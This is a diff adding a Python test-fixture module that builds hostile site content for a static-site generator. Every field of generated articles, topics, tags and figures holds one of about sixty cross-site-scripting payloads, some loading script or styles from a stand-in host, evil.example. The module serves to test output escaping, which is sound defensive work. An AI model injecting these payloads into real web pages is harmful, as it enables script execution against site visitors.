@@ -1,0 +1,196 @@
+"""Text that tries to run as a program in a reader's browser, and content made of it."""
+
+from __future__ import annotations
+
+from typing import Any
+
+from youju import markup
+
+from .articles import FILLER, article, example, section, source, table, term, to_yaml, topic
+
+#: Every one calls `pwn()` or `alert()` if its surroundings let it. At most 100 characters, on one line.
+PAYLOADS = (
+    "<script>pwn()</script>",
+    "<ScRiPt>pwn()</sCrIpT>",
+    "<script src=//evil.example/x.js></script>",
+    "<script src='data:text/javascript,pwn()'></script>",
+    "<script type=module>pwn()</script>",
+    "</title><script>pwn()</script>",
+    "</script><script>pwn()</script>",
+    "</textarea><script>pwn()</script>",
+    "</style><script>pwn()</script>",
+    "</noscript><img src=x onerror=pwn()>",
+    "</svg><img src=x onerror=pwn()>",
+    "--><script>pwn()</script><!--",
+    "]]><script>pwn()</script>",
+    '"><script>pwn()</script>',
+    "'><script>pwn()</script>",
+    '"><img src=x onerror=pwn()>',
+    "'><img src=x onerror=pwn()>",
+    '" onmouseover="pwn()" x="',
+    "' onmouseover='pwn()' x='",
+    '" autofocus tabindex=1 onfocus=pwn() x="',
+    "<img src=x onerror=pwn()>",
+    "<img/src/onerror=pwn()>",
+    "<img src=x onerror=&#112;wn()>",
+    "&lt;img src=x onerror=pwn()&gt;",
+    "&amp;lt;script&amp;gt;pwn()&amp;lt;/script&amp;gt;",
+    "&#60;script&#62;pwn()&#60;/script&#62;",
+    "<svg onload=pwn()>",
+    "<svg><script>pwn()</script></svg>",
+    "<svg><animate onbegin=pwn() attributeName=x dur=1s>",
+    "<svg><use href='data:image/svg+xml,<svg id=x onload=pwn()/>#x'/></svg>",
+    "<math><mtext><style><img src=x onerror=pwn()></style></mtext></math>",
+    "<math><a xlink:href=javascript:pwn()>x</a></math>",
+    "<iframe src=javascript:pwn()></iframe>",
+    "<iframe srcdoc='<script>parent.pwn()</script>'></iframe>",
+    "<object data=javascript:pwn()></object>",
+    "<embed src=javascript:pwn()>",
+    "<base href=//evil.example/>",
+    "<meta http-equiv=refresh content='0;url=javascript:pwn()'>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<style>@import '//evil.example/x.css';</style>",
+    "<form action=javascript:pwn()><button autofocus>x</button></form>",
+    "<details open ontoggle=pwn()>x</details>",
+    "<video><source onerror=pwn()></video>",
+    "<body onload=pwn()>",
+    "<input autofocus onfocus=pwn()>",
+    "<marquee onstart=pwn()>x</marquee>",
+    "<a href=javascript:pwn()>x</a>",
+    "<template><script>pwn()</script></template>",
+    "<noscript><p title='</noscript><img src=x onerror=pwn()>'></noscript>",
+    "<x onclick=pwn() id=__config>x</x>",
+    "{{constructor.constructor('pwn()')()}}",
+    "{% import os %}{{ 7 * 7 }}${pwn()}",
+    "[x](javascript:pwn())",
+    "[x](JaVaScRiPt:pwn())",
+    "[x](data:text/html,<script>pwn()</script>)",
+    "[x](//evil.example)",
+    "![x](x 'onerror=pwn()')",
+    "<https://evil.example/><script>pwn()</script>",
+    "`<script>pwn()</script>`",
+    "**<img src=x onerror=pwn()>**",
+    "＜script＞pwn()＜/script＞",
+    "javascript:pwn()//",
+    "\\x3cscript\\x3epwn()\\x3c/script\\x3e",
+)
+
+
+def code(number: int) -> str:
+    """A word by which search finds the content of payload `number`."""
+    return f"xss{number:03}"
+
+
+def definition(payload: str) -> str:
+    """Definitions may hold no syntax, and without the check that says so nothing could render it."""
+    plain = all(token.type == "text" for token in markup.parse(payload).tokens)
+    return payload if plain else "定义。"
+
+
+def hostile_topic(number: int, payload: str) -> dict[str, Any]:
+    return topic(f"topic-{number}", name=f"{payload} {code(number)}", definition=definition(payload))
+
+
+def hostile_term(number: int, payload: str) -> dict[str, Any]:
+    return term(
+        f"tag-{number}",
+        name=f"{payload} {code(number)}",
+        topic=f"topic-{number}",
+        aliases=[payload],
+        definition=definition(payload),
+    )
+
+
+def hostile_fact(number: int, payload: str) -> dict[str, Any]:
+    """A figure with enough history for a chart."""
+    source_ = {"id": "notice", "title": payload, "publisher": payload, "doc_no": payload, "clause": payload}
+    values = [
+        {
+            "from": f"202{year}-01-01",
+            "value": f"{year}.5",
+            "source": "notice",
+            "confidence": "unverified",
+            "note": payload,
+        }
+        for year in range(4)
+    ]
+    return {
+        "id": f"fact-{number}",
+        "name": f"{payload} {code(number)}",
+        "topic": f"topic-{number}",
+        "unit": "%",
+        "region": payload,
+        "definition": payload,
+        "values": values,
+        "sources": [{**source_, "date": "2020", "note": payload}],
+        "verified_on": "2024-01-01",
+        "verified_against": payload,
+        "review_by": "2024-01-02",
+        "on_expiry": "banner",
+        "note": payload,
+    }
+
+
+def hostile_article(number: int, payload: str) -> dict[str, Any]:
+    """`payload` in every field that takes text, and inside every inline syntax."""
+    inside = (
+        f"{payload} **{payload}** `{payload}` [{payload}](https://a.example/) [[article-{number}|{payload}]] "
+        f"[[tag:tag-{number}|{payload}]] [[topic:topic-{number}]] [[fact:fact-{number}]] {{{{fact-{number}}}}}[^rule]"
+    )
+    blocks = [
+        inside,
+        {"list": [inside]},
+        {"numbered": [inside]},
+        {"note": inside},
+        {
+            "table": table(
+                caption=payload,
+                columns=[payload, payload],
+                rows=[[payload, f"**{payload}** `{payload}`"]],
+                note=payload,
+            )
+        },
+        {
+            "example": example(
+                title=payload, given=[payload], lines=[payload, f"{payload} = {{{{=x}}}}"], result=payload
+            )
+        },
+    ]
+    return article(
+        f"article-{number}",
+        title=f"{payload} {code(number)}",
+        topic=f"topic-{number}",
+        tags=[f"tag-{number}", "tag-0", "tag-1"] if number > 1 else ["tag-0", "tag-1", "tag-2"],
+        phrasings=[payload, payload],
+        origin={"publisher": payload, "headline": payload, "time": "2022-08-22 16:41:36"},
+        answer=f"{payload} 一句话的答案",
+        applies=[payload],
+        exceptions=[payload],
+        sections=[section(f"{payload} {part}", *(blocks if part == 0 else [])) for part in range(4)],
+        steps=[payload, FILLER],
+        myths=[{"claim": payload, "truth": payload}],
+        changes=[{"before": payload, "now": payload, "since": "2023"}],
+        faq=[{"question": f"{payload} {part}", "answer": payload} for part in "甲乙"],
+        unverified=[payload],
+        sources=[
+            source(
+                title=payload,
+                publisher=payload,
+                doc_no=payload,
+                clause=payload,
+                note=payload,
+                url="https://a.example/\"'<script>pwn()</script>",
+            )
+        ],
+    )
+
+
+def hostile_content() -> dict[str, Any]:
+    """Arguments for `write_site`: one topic, tag, figure and article for each payload."""
+    pairs = list(enumerate(PAYLOADS))
+    return {
+        "articles": [hostile_article(*pair) for pair in pairs],
+        "topics": [hostile_topic(*pair) for pair in pairs],
+        "tags": [hostile_term(*pair) for pair in pairs],
+        "files": {"data/facts/all.yml": to_yaml([hostile_fact(*pair) for pair in pairs])},
+    }
